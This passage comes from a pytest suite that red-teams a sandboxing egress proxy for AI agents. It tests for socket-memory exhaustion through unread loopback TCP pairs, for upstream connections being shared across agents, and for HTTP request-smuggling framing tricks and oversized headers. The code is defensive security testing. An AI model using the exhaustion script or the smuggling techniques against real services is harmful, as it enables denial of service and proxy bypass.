    core_up, cage_pair, server = (x >> 20 for x in parts)
    print(f"16 stalled tunnels: {sent} MiB written by the cage; host TCP memory +{grew} MiB at peak:"
          f" core's upstream sockets {core_up} MiB, the cage's loopback pairs {cage_pair} MiB, the test server's {server} MiB;"
          f" cgroup v2 memory.stat sock (0 on a v1 host): cage +{cage_sock >> 20} MiB, core +{core_sock >> 20} MiB;"
          f" the core's upstream queues after the probe exited: {still} MiB")
    assert grew - server < 256, (grew, core_up, cage_pair, server, sent)


# In the cage, no egress at all: P["conns"] TCP pairs on the cage's own loopback, one end
# written as fast as it takes, the other never read; held P["hold"] s.
LOOPBACK_STUFF = r"""
import threading, time
L = socket.socket()
L.bind(("127.0.0.1", 0))
L.listen(64)
pairs, sent = [], [0] * P["conns"]
for i in range(P["conns"]):
    a = socket.create_connection(L.getsockname())
    b, _ = L.accept()
    pairs.append((a, b))
def one(i):
    a = pairs[i][0]
    a.settimeout(0.5)
    block = b"x" * 65536
    end = time.monotonic() + P["write"]
    while time.monotonic() < end:
        try:
            sent[i] += a.send(block)
        except OSError:
            pass
th = [threading.Thread(target=one, args=(i,)) for i in range(P["conns"])]
for x in th: x.start()
for x in th: x.join()
time.sleep(P["hold"])
result(sent=sent)
"""


@pytest.mark.attack("budget.exhaustion", ref="the control of test_one_agents_stalled_tunnels_hold_bounded_socket_memory")
def test_the_cages_own_loopback_pairs_hold_socket_memory_too(hive: HiveProcess) -> None:
    """The control, no egress: 16 TCP pairs on the cage's own loopback, one end written and
    the other never read. What they hold is the cage's own (its network namespace, its
    cgroup on a cgroup v2 host; on a v1 host like this one the memory controller does not
    count TCP buffers unless kmem.tcp is limited). Recorded, not asserted: it tells the
    proxy's part of the stalled tunnels' memory from what a cage holds alone."""
    import threading
    base = tcp_mem_pages()
    got: dict[str, Any] = {}
    th = threading.Thread(target=lambda: got.update(out=probe_result(hive.probe(
        AGENT, LOOPBACK_STUFF, timeout=120, conns=16, write=6, hold=4))))
    th.start()
    peak = base
    while th.is_alive():
        peak = max(peak, tcp_mem_pages())
        time.sleep(0.25)
    th.join()
    grew = (peak - base) * os.sysconf("SC_PAGE_SIZE") >> 20
    print(f"16 loopback pairs in the cage: {sum(got['out']['sent']) >> 20} MiB written; host TCP memory +{grew} MiB at peak")


# In the cage: at each wall-clock time in P["at"], one request on a connection of its own
# to api.test, closed cleanly after the answer (so the proxy may keep its upstream idle for
# this agent's next connection); the answers' bodies.
TIMED_REQUESTS = r"""
import ssl, time
ctx = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")

def one(tag):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(4096)
    t = ctx.wrap_socket(s, server_hostname="api.test")
    t.sendall(("GET /v1/%s HTTP/1.1\r\nHost: api.test\r\nx-api-key: %s\r\n\r\n" % (tag, os.environ["API_KEY"])).encode())
    out = b""
    while True:
        h, sep, rest = out.partition(b"\r\n\r\n")
        if sep:
            n = int([l.split(b":")[1] for l in h.split(b"\r\n") if l.lower().startswith(b"content-length")][0])
            if len(rest) >= n:
                break
        out += t.recv(65536)
    t.close()
    return rest[:n].decode()

bodies = []
for i, at in enumerate(P["at"]):
    time.sleep(max(0, at - time.time()))
    bodies.append(one("%s%d" % (P["tag"], i)))
result(bodies=bodies)
"""


def conn_of(body: str) -> str:
    return body.split("conn=")[1].split()[0]


@pytest.mark.attack("egress.pool-cross-agent", ref="red team round 7; egress_pool.py (never another agent's)")
def test_an_idle_upstream_kept_for_one_agent_never_serves_another_bound_to_the_same_secret(hive: HiveProcess) -> None:
    """rteg and rtoth are both bound to ``apikey`` for api.test:443. rteg makes a request
    and closes cleanly (its upstream kept idle for 2 s, egress_pool.py); 0.4 s later rtoth
    connects to the same destination, then rteg again at 0.8 s. nginx numbers its
    connections (``$connection``). Safe: rtoth's request comes on an upstream connection of
    its own, never rteg's; the control: rteg's second request reuses rteg's first upstream."""
    import threading
    t0 = time.time() + 8  # both probes' cage entries done by then
    got: dict[str, Any] = {}
    ths = [threading.Thread(target=lambda: got.update(a=probe_result(hive.probe(AGENT, TIMED_REQUESTS, tag="a", at=[t0, t0 + 0.8])))),
           threading.Thread(target=lambda: got.update(b=probe_result(hive.probe(OTHER, TIMED_REQUESTS, tag="b", at=[t0 + 0.4]))))]
    for th in ths:
        th.start()
    for th in ths:
        th.join()
    (a1, a2), (b1,) = got["a"]["bodies"], got["b"]["bodies"]
    print(f"rteg: {a1.strip()} | {a2.strip()}; rtoth: {b1.strip()}")
    assert all("key_ok=yes" in x for x in (a1, a2, b1)), (a1, a2, b1)
    assert conn_of(b1) != conn_of(a1), (a1, b1)
    assert conn_of(a2) == conn_of(a1), ("the control: rteg's own upstream was not reused", a1, a2)


@pytest.mark.attack("egress.request-smuggling", ref="RFC 9112 6.1, 6.3, 7.1; h11's strict reader")
def test_more_framing_and_header_corners_are_refused_before_the_server(res: dict[str, Any]) -> None:
    """Inside the terminated TLS to api.test, with the bound header: two Transfer-Encodings,
    ``chunked, chunked``, ``Content-Length: 3, 3`` and ``+3``, a ``0x`` chunk size, a bare LF
    after a chunk size, a DEL in a header name, a tab before a colon, a bare CR and a NUL
    in values, the HTTP/2 preface. Safe: each refused by the proxy (400; the preface a 403,
    no Host), nothing re-framed for the server to read another way. ``Content-Length: 3, 3``
    is the exception RFC 9110 8.6 allows: h11 takes the one value and the server is sent
    ``content-length: 3`` (re-framed: no second reading)."""
    want = {k: 403 if k == "http2-preface" else 200 if k == "cl-list" else 400 for k in SMUGGLE32}
    bad = {k: (res[k].get("status"), res[k].get("body", res[k])[:120]) for k in SMUGGLE32
           if res[k].get("status") != want[k]}
    assert not bad, bad


@pytest.mark.attack("egress.relay", ref="h11 max_incomplete_event_size")
def test_an_upstream_answer_with_a_megabyte_header_is_a_502(res: dict[str, Any]) -> None:
    """hang.test answers with a 1 MiB header line. Safe: a 502 naming an invalid answer,
    the core not holding the megabyte for the cage."""
    assert res["bighead"].get("status") == 502 and "not valid HTTP/1.1" in res["bighead"]["body"], res["bighead"]
